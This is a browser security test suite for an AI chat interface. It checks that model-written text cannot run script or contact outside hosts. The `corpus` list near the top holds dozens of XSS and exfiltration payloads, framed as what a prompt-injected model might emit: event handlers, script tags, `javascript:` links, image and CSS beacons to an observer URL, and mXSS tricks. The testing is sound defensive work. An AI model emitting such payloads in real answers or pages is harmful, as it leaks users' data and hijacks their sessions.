import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { TestContext } from "node:test";
import { after, before, suite, test } from "node:test";

import type { Browser } from "playwright-core";

import { launch, openPaired, openStage, picture, send, skip, until } from "./browser.ts";

/** A server that stands for anybody's; whoever asks it for anything has leaked. */
async function openObserver(t: TestContext) {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo; // TCP, so never a string
  // Another host than the page's, as far as the browser is concerned.
  return { seen, url: `http://localhost:${port}` };
}

/** What a model that was told to by a file could write. Each would fetch `U/…` or set `window.owned`. */
const corpus = (url: string): string[] => [
  `![chart](${url}/md-image.png)`,
  `![chart][ref]\n\n[ref]: ${url}/md-reference.png`,
  `<img src="${url}/img.png">`,
  `<img src="${url}/a.png" srcset="${url}/srcset.png 2x">`,
  `<img src=x onerror="window.owned='onerror'">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}/svg-data.png'/></svg>">`,
  `<script>window.owned='script'</script>`,
  `<script src="${url}/script.js"></script>`,
  `<svg onload="window.owned='svg'"><image href="${url}/svg.png"/><script>window.owned='svg-script'</script></svg>`,
  `<svg><use href="${url}/use.svg#a"/></svg><svg><style>@import url(${url}/svg-style.css)</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.owned='mxss'"></style></mglyph></table></mtext></math>`,
  `<p style="background:url(${url}/style-attribute.png)">styled</p>`,
  `<style>body{background:url(${url}/style.css.png)}</style>`,
  `<link rel="stylesheet" href="${url}/link.css"><link rel="preload" as="image" href="${url}/preload.png">`,
  `<link rel="dns-prefetch" href="${url}"><link rel="prefetch" href="${url}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
  `<base href="${url}/base/">`,
  `<iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>parent.owned='srcdoc'</script>"></iframe>`,
  `<object data="${url}/object"></object><embed src="${url}/embed">`,
  `<video src="${url}/video.mp4" poster="${url}/poster.png"><track src="${url}/track.vtt"></video>`,
  `<audio src="${url}/audio.mp3" autoplay></audio><picture><source srcset="${url}/source.png"><img></picture>`,
  `<form action="${url}/form"><input name="q" autofocus onfocus="window.owned='focus'"><button>Go</button></form>`,
  `<input type="image" src="${url}/input.png">`,
  `<body background="${url}/body.png" onload="window.owned='body'">`,
  `<table background="${url}/table.png"><tr><td background="${url}/td.png">cell</td></tr></table>`,
  `<details open ontoggle="window.owned='toggle'"><summary>x</summary></details>`,
  `<a href="javascript:window.owned='link'" id="js-link">script link</a>`,
  `[markdown script link](javascript:window.owned='md-link')`,
  `[entity link](&#106;avascript:window.owned='entity')`,
  `<a href="data:text/html,<script>window.owned='data'</script>">data link</a>`,
  `<a href="${url}/ping-target" ping="${url}/ping">ping link</a>`,
  `[api link](/api/gateway/stop)`,
  `<template><img src="${url}/template.png"></template><noscript><img src="${url}/noscript.png"></noscript>`,
  `<div id="app"></div><button class="code-copy" data-copy="code">Copy</button>`,
  `\`\`\`"><img src=x onerror="window.owned='fence'">\ncode\n\`\`\``,
  `<xmp><img src="${url}/xmp.png"></xmp><plaintext><img src="${url}/plaintext.png">`,
];

suite("security: what a model writes, in Chromium", { skip }, () => {
  let browser: Browser;
  before(async () => {
    browser = await launch();
  });
  after(() => browser.close());

  test("security: the observer sees a page without our sanitiser and policy leak (control)", async (t) => {
    const observer = await openObserver(t);
    const page = await browser.newPage();
    t.after(() => page.close());
    // All but the one that would take the control's own page away.
    for (const text of corpus(observer.url).filter((text) => !text.includes("http-equiv"))) {
      await page.setContent(text.startsWith("![") ? `<img src="${observer.url}/md.png">` : text);
    }
    await until(() => observer.seen.length >= 8, "the control leaks");
  });

  for (const hasPolicy of [true, false]) {
    test(`security: nothing in an answer runs, or asks any host for anything by being shown, ${hasPolicy ? "as it is served" : "not even without the policy"}`, async (t) => {
      const observer = await openObserver(t);
      const stage = await openStage(t, browser);
      stage.gateway.hasPolicy = hasPolicy;
      const page = await openPaired(stage);
      const texts = corpus(observer.url);
      stage.gateway.script = async (turn) => {
        for (const text of texts) {
          turn.emit({ type: "text", text });
          turn.store({ role: "assistant", text, toolCalls: [] });
        }
        turn.emit({ type: "text", text: "The end." });
        turn.store({ role: "assistant", text: "The end.", toolCalls: [] });
      };
      await send(page, "Show me everything");
      await page.locator(".markdown p", { hasText: "The end." }).waitFor();
      // Two frames and a turn of the event loop: whatever would start has started.
      await page.evaluate(
        () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 300))),
      );
      await picture(page, "hostile");

      assert.deepEqual(observer.seen, []);
      assert.equal(await page.evaluate("window.owned"), undefined);
      // With the policy, Chromium also names what it would stop in the inert copy that the sanitiser reads.
      if (!hasPolicy) assert.deepEqual(stage.complaints, []);
      const left = await page.locator(".markdown").evaluateAll((elements) =>
        elements
          .flatMap((element) => Array.from(element.querySelectorAll("*")))
          .filter(
            (node) =>
              /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|FORM|SVG|MATH|LINK|META|BASE|VIDEO|AUDIO)$/i.test(
                node.tagName,
              ) ||
              node
                .getAttributeNames()
                .some(
                  (name) =>
                    /^(on|style|srcset|ping|background|data)/.test(name) && name !== "data-copy",
                ),
          )
          .map((node) => node.outerHTML),
      );
      assert.deepEqual(left, []);
    });
  }

  test("security: hostile text in titles, tool calls, outputs, notes and faults stays text", async (t) => {
    const stage = await openStage(t, browser);
    const hostile = `<img src=x onerror="window.owned=1">`;
    stage.gateway.addSession(hostile, Date.now(), []);
    stage.gateway.status = { ...stage.gateway.status, notes: [{ code: "X", text: hostile }] };
    const page = await openPaired(stage);
    stage.gateway.script = async (turn) => {
      turn.emit({ type: "reasoning", text: hostile });
      turn.emit({ type: "tool-call", id: "c", tool: hostile, input: { path: hostile } });
      turn.emit({ type: "tool-result", id: "c", tool: hostile, ok: true, output: hostile });
      turn.emit({ type: "note", code: "N", text: hostile });
      turn.store({ role: "notice", code: "F", text: hostile, fix: hostile });
    };
    await send(page, hostile);
    await page.locator(".fault").waitFor();
    await page.locator(".step summary").click();
    await page.getByRole("button", { name: "Model:" }).click();
    await page.getByRole("dialog").getByText(hostile).waitFor();
    assert.equal(await page.locator("img").count(), 0);
    assert.equal(await page.evaluate("window.owned"), undefined);
  });

  test("security: a link opens only after its whole address was shown, and takes nothing along", async (t) => {
    const observer = await openObserver(t);
    const stage = await openStage(t, browser);
    const page = await openPaired(stage);
    const text = `[the notes](${observer.url}/?q=secret)`;
    stage.gateway.script = async (turn) => turn.store({ role: "assistant", text, toolCalls: [] });
    await send(page, "Link");
    const link = page.locator(".markdown a");
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
    await link.hover();
    await link.click();
    await page.getByText(`${observer.url}/?q=secret`).waitFor();
    assert.deepEqual(observer.seen, []);
    const opened = stage.context.waitForEvent("page");
    await page.getByRole("link", { name: "Open in a new tab" }).click();
    const other = await opened;
    await other.waitForLoadState();
    assert.equal(await other.evaluate(() => document.referrer), "");
    assert.equal(await other.evaluate(() => window.opener), null);
    assert.deepEqual(
      observer.seen.filter((path) => path !== "/favicon.ico"),
      ["/?q=secret"],
    );
  });

  test("security: pictures that are in the text are shown, and only raster ones", async (t) => {
    const stage = await openStage(t, browser);
    const page = await openPaired(stage);
    const dot =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    const text = `![dot](data:image/png;base64,${dot}) ![vector](data:image/svg+xml;base64,PHN2Zy8+)`;
    stage.gateway.script = async (turn) => turn.store({ role: "assistant", text, toolCalls: [] });
    await send(page, "Picture");
    await page.getByText("Picture not loaded: vector").waitFor();
    const image = page.locator(".markdown img");
    assert.equal(await image.count(), 1);
    assert.equal(await image.evaluate((img: HTMLImageElement) => img.naturalWidth), 1);
  });

  test("security: the device proof goes with every request and never into an address", async (t) => {
    const stage = await openStage(t, browser);
    const page = await openPaired(stage);
    const bare: string[] = [];
    page.on("request", (request) => {
      const isApi = new URL(request.url()).pathname.startsWith("/api/");
      if (isApi && !request.headers()["x-isopod-device"]) bare.push(request.url());
    });
    await page.reload();
    await page.locator(".chips").waitFor();
    await send(page, "Hi");
    await until(() => stage.gateway.messages.length > 0, "the message is sent");
    assert.deepEqual(bare, []);
    assert.ok(stage.gateway.requests.every((request) => !request.includes("proof")));
    const cookie = await page.evaluate(() => document.cookie);
    assert.equal(cookie, "");
  });
});
